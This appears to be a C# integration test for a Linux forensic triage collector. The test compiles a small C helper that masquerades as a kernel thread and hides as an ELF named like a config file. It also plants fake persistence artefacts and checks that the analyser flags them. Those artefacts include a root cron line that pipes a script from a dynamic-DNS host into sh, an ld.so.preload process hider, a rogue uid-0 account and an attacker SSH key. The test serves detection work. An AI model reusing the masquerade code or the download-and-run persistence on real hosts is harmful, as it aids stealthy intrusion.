using System.Diagnostics;
using System.Globalization;
using System.Net;
using System.Net.Sockets;
using System.Text.Json;
using CaseManager.Application.Analysis;
using CaseManager.Cli.Commands;
using CaseManager.Domain.Evidence;
using CaseManager.Infrastructure.Evidence;
using C = CaseManager.Infrastructure.Analysis.Triage.TriageFindingCatalogue;

namespace CaseManager.Infrastructure.IntegrationTests.Analysis.Triage;

/// <summary>Runs collectors/linux/casemgr-collect.sh for real (as root) and analyses what it wrote.</summary>
public sealed class TriageCollectorTests : IAsyncLifetime
{
    /// <summary>
    /// Disguises itself as the kernel thread <c>[ksoftirqd/7]</c> (argv[0] via re-exec, comm via prctl), connects to the
    /// test's listener on 127.0.0.1 and forks two children that keep the name; all wait for stdin to close.
    /// </summary>
    private const string Source = """
        #define _GNU_SOURCE
        #include <stdio.h>
        #include <stdlib.h>
        #include <string.h>
        #include <signal.h>
        #include <unistd.h>
        #include <arpa/inet.h>
        #include <netinet/in.h>
        #include <sys/prctl.h>
        #include <sys/socket.h>

        int main(int argc, char **argv) {
            if (argc < 3 || strcmp(argv[1], "--child") != 0) {
                execl("/proc/self/exe", "[ksoftirqd/7]", "--child", argv[1], (char *)0);
                return 99;
            }
            prctl(PR_SET_NAME, "[ksoftirqd/7]", 0, 0, 0);
            int s = socket(AF_INET, SOCK_STREAM, 0);
            struct sockaddr_in a;
            memset(&a, 0, sizeof a);
            a.sin_family = AF_INET;
            a.sin_port = htons((unsigned short)atoi(argv[2]));
            a.sin_addr.s_addr = htonl(0x7f000001);
            if (connect(s, (struct sockaddr *)&a, sizeof a) != 0) { perror("connect"); return 98; }
            pid_t kids[2];
            for (int i = 0; i < 2; i++) {
                pid_t k = fork();
                if (k == 0) {
                    prctl(PR_SET_PDEATHSIG, SIGKILL);
                    close(s);
                    char c;
                    while (read(0, &c, 1) > 0) { }
                    _exit(0);
                }
                kids[i] = k;
            }
            printf("ready %d %d %d\n", getpid(), kids[0], kids[1]);
            fflush(stdout);
            char c;
            while (read(0, &c, 1) > 0) { }
            kill(kids[0], SIGKILL);
            kill(kids[1], SIGKILL);
            return 0;
        }
        """;

    private readonly string _directory = Path.Combine(Path.GetTempPath(), "casemgr-triage-" + Guid.NewGuid().ToString("N")[..8]);
    private TcpListener? _listener;
    private TcpClient? _accepted;
    private Process? _helper;
    private int[] _pids = [];

    private string FakeConfig => Path.Combine(_directory, "etc", "security", "ntps.conf");

    public async Task InitializeAsync()
    {
        if (TriageTestRun.CollectorSkipReason is not null || !File.Exists("/usr/bin/gcc"))
        {
            return;
        }

        Directory.CreateDirectory(Path.GetDirectoryName(FakeConfig)!);
        var source = Path.Combine(_directory, "helper.c");
        await File.WriteAllTextAsync(source, Source);
        var gcc = Process.Start(new ProcessStartInfo("/usr/bin/gcc", ["-O0", "-o", FakeConfig, source]) { RedirectStandardError = true })!;
        var gccErrors = await gcc.StandardError.ReadToEndAsync();
        await gcc.WaitForExitAsync();
        gcc.ExitCode.ShouldBe(0, "gcc: " + gccErrors);

        _listener = new TcpListener(IPAddress.Loopback, 0);
        _listener.Start();
        var port = ((IPEndPoint)_listener.LocalEndpoint).Port;
        var accepting = _listener.AcceptTcpClientAsync();
        _helper = Process.Start(new ProcessStartInfo(FakeConfig, [port.ToString(CultureInfo.InvariantCulture)])
        {
            RedirectStandardInput = true, RedirectStandardOutput = true, UseShellExecute = false,
        })!;
        using var ready = new CancellationTokenSource(TimeSpan.FromSeconds(30));
        var line = await _helper.StandardOutput.ReadLineAsync(ready.Token);
        line.ShouldNotBeNull().ShouldStartWith("ready ");
        _pids = [.. line["ready ".Length..].Split(' ').Select(p => int.Parse(p, CultureInfo.InvariantCulture))];
        _accepted = await accepting.WaitAsync(ready.Token);
    }

    public async Task DisposeAsync()
    {
        if (_helper is not null)
        {
            _helper.StandardInput.Close();
            using var exit = new CancellationTokenSource(TimeSpan.FromSeconds(10));
            try
            {
                await _helper.WaitForExitAsync(exit.Token);
            }
            catch (OperationCanceledException)
            {
                _helper.Kill(entireProcessTree: true);
            }

            _helper.Dispose();
        }

        _accepted?.Dispose();
        _listener?.Stop();
        if (Directory.Exists(_directory))
        {
            Directory.Delete(_directory, recursive: true);
        }
    }

    [CollectorFact(needsGcc: true)]
    public async Task LiveHost_FakeKernelThreadConfigPosingExecutableAndItsConnection_AreReported()
    {
        var output = Path.Combine(_directory, "out");
        Directory.CreateDirectory(output);

        var bundle = await TriageTestRun.CollectAsync("-o", output);

        Path.GetFileName(bundle).ShouldMatch(@"^triage-.+-\d{8}T\d{6}Z\.tar\.gz$");
        var bytes = await File.ReadAllBytesAsync(bundle);
        EvidenceKindDetector.Detect(bytes.AsSpan(0, Math.Min(bytes.Length, 4096)), "upload.bin").ShouldBe(EvidenceKind.TriageBundle);
        var (outcome, _) = await TriageTestRun.AnalyseAsync(bytes);
        outcome.Warnings.Where(w => w.Code.StartsWith("triage.manifest", StringComparison.Ordinal) || w.Code.StartsWith("triage.archive", StringComparison.Ordinal))
            .Select(w => FindingText.Warning(w, C.Instance, CultureInfo.InvariantCulture)).ShouldBeEmpty("the collector's own bundle passes the manifest and archive checks");

        var (parent, child1, child2) = (_pids[0], _pids[1], _pids[2]);
        var result = outcome.Result();
        result.Processes.Single(p => p.Pid == parent).Exe.ShouldBe(FakeConfig);
        result.Processes.Single(p => p.Pid == parent).Name.ShouldBe("[ksoftirqd/7]");

        var fake = outcome.Coded(C.FakeKernelThread).Single(f => f.Value("pid") == parent.ToString(CultureInfo.InvariantCulture));
        fake.Value("name").ShouldBe("[ksoftirqd/7]");
        fake.Value("ppid").ShouldBe(Environment.ProcessId.ToString(CultureInfo.InvariantCulture));
        fake.Argument("children")!.Values.ShouldBe([child1.ToString(CultureInfo.InvariantCulture), child2.ToString(CultureInfo.InvariantCulture)], ignoreOrder: true);
        fake.Value("exe").ShouldBe(FakeConfig);
        fake.Value("command").ShouldBe($"kill -9 {parent} {child1} {child2}");

        var config = outcome.Coded(C.ExecutableAsConfig).Single(f => f.Value("path") == FakeConfig);
        config.Value("magic").ShouldBe("ELF");
        config.Value("sha256").ShouldBe(Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(await File.ReadAllBytesAsync(FakeConfig))));
        config.Value("command").ShouldBe($"kill -9 {parent} {child1} {child2} && chattr -i {FakeConfig} && rm -f {FakeConfig}");

        var port = ((IPEndPoint)_listener!.LocalEndpoint).Port;
        result.Connections.ShouldContain(c => c.Pid == parent && c.Protocol == "tcp" && c.Remote.Ip == "127.0.0.1" && c.Remote.Port == port && c.State == "ESTABLISHED");
        result.Connections.ShouldNotContain(c => (c.Pid == child1 || c.Pid == child2) && c.Remote.Port == port);
        result.Connections.ShouldContain(c => c.Pid == Environment.ProcessId && c.Local.Port == port && c.State == "LISTEN");

        // the CLI dispatches the bundle by its detected kind to the triage analyser
        var stdout = new StringWriter();
        (await AnalyzeCommand.RunAsync([bundle, "--json"], stdout, new StringWriter())).ShouldBe(0);
        using var json = JsonDocument.Parse(stdout.ToString());
        json.RootElement.GetProperty("kind").GetString().ShouldBe("triage");
        json.RootElement.GetProperty("findings").EnumerateArray().ShouldContain(f => f.GetProperty("code").GetString() == C.FakeKernelThread);
    }

    [CollectorFact]
    public async Task PreparedRoot_PersistenceAccountsAndLogs_AreCollectedAndFlagged()
    {
        var root = Path.Combine(_directory, "root");
        void Write(string path, string text, DateTime? modified = null)
        {
            var full = Path.Combine(root, path.TrimStart('/'));
            Directory.CreateDirectory(Path.GetDirectoryName(full)!);
            File.WriteAllText(full, text);
            File.SetLastWriteTimeUtc(full, modified ?? DateTime.UtcNow);
        }

        var old = DateTime.UtcNow.AddDays(-200);
        Write("/etc/hostname", "imaged-host\n");
        Write("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/root:/bin/bash\nu:x:1000:1000::/home/u:/bin/bash\n", old);
        Write("/etc/shadow", "root:$6$secret:19000:0:99999:7:::\ntoor:$6$hash:20000:0:99999:7:::\n", old);
        Write("/etc/crontab", "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n*/5 * * * * root /etc/security/ntps.conf >/dev/null 2>&1\n", old);
        Write("/var/spool/cron/crontabs/root", "@reboot curl -fsSL http://sjb555.3322.org/i.sh | sh\n", old);
        Write("/etc/systemd/system/ntps.service", "[Service]\nExecStart=/etc/security/ntps.conf -d\n", old);
        Write("/etc/ld.so.preload", "/usr/local/lib/libprocesshider.so\n", old);
        Write("/etc/rc.local", "#!/bin/sh\n/dev/shm/.x/run &\nexit 0\n", old);
        Write("/home/u/.bashrc", "nohup /var/tmp/.cache/kworker >/dev/null 2>&1 &\n", old);
        Write("/root/.ssh/authorized_keys", "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 attacker@kali\n");
        Write("/var/log/auth.log", TriageScenarios.AuthLog("203.0.113.9", 12, success: true), old);
        Write("/etc/hosts", "127.0.0.1 localhost\n", old);
        var elf = Path.Combine(root, "etc", "security", "ntps.conf");
        Directory.CreateDirectory(Path.GetDirectoryName(elf)!);
        File.Copy("/bin/true", elf);
        File.CreateSymbolicLink(Path.Combine(root, "etc", "localtime"), "/usr/share/zoneinfo/UTC");

        var output = Path.Combine(_directory, "out-root");
        Directory.CreateDirectory(output);
        var (outcome, sink) = await TriageTestRun.AnalyseAsync(await File.ReadAllBytesAsync(await TriageTestRun.CollectAsync("-o", output, "--root", root)));

        outcome.Warnings.ShouldBeEmpty();
        var result = outcome.Result();
        result.Host.ShouldBe("imaged-host");
        result.Processes.ShouldBeEmpty();
        result.Connections.ShouldBeEmpty();
        var sha = Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(await File.ReadAllBytesAsync(elf)));
        result.Files.ShouldContain(f => f.Path == "/etc/security/ntps.conf" && f.Magic == "ELF" && f.Sha256 == sha);
        result.Persistence.Select(p => (p.Kind, p.Location)).ShouldBe(
        [
            ("cron", "/etc/crontab"), ("cron", "/etc/crontab"), ("ld.so.preload", "/etc/ld.so.preload"), ("rc.local", "/etc/rc.local"),
            ("systemd", "/etc/systemd/system/ntps.service"), ("shell-startup", "/home/u/.bashrc"), ("authorized_keys", "/root/.ssh/authorized_keys"),
            ("cron", "/var/spool/cron/crontabs/root"),
        ], ignoreOrder: true);

        outcome.Coded(C.ExecutableAsConfig).Single().Value("command").ShouldBe("chattr -i /etc/security/ntps.conf && rm -f /etc/security/ntps.conf");
        var persistence = outcome.Coded(C.SuspiciousPersistence).ToList();
        persistence.ShouldContain(f => f.Value("entry") == "*/5 * * * * root /etc/security/ntps.conf >/dev/null 2>&1" && f.Value("location") == "/etc/crontab");
        persistence.ShouldContain(f => f.Value("location") == "/var/spool/cron/crontabs/root" && f.Value("target") == "download-and-run");
        persistence.ShouldContain(f => f.Value("location") == "/etc/systemd/system/ntps.service");
        persistence.ShouldContain(f => f.Value("location") == "/etc/rc.local");
        persistence.ShouldContain(f => f.Value("location") == "/home/u/.bashrc");
        persistence.Count.ShouldBe(5);
        outcome.Coded(C.LdPreload).ShouldHaveSingleItem();
        outcome.Coded(C.UidZero).Single().Value("account").ShouldBe("toor");
        outcome.Coded(C.NewSshKey).Single().Value("path").ShouldBe("/root/.ssh/authorized_keys");
        outcome.Coded(C.BruteForceSuccess).Single().Value("source").ShouldBe("203.0.113.9");
        outcome.Coded(C.DynamicDns).ShouldContain(f => f.Value("name") == "sjb555.3322.org");
        sink.Rows("accounts").ShouldContain(r => (string)r["name"]! == "toor" && ((string)r["note"]!).Contains("uid 0", StringComparison.Ordinal));
        result.Accounts.ShouldNotContain(a => a.Note.Contains("$6$", StringComparison.Ordinal));
    }
}
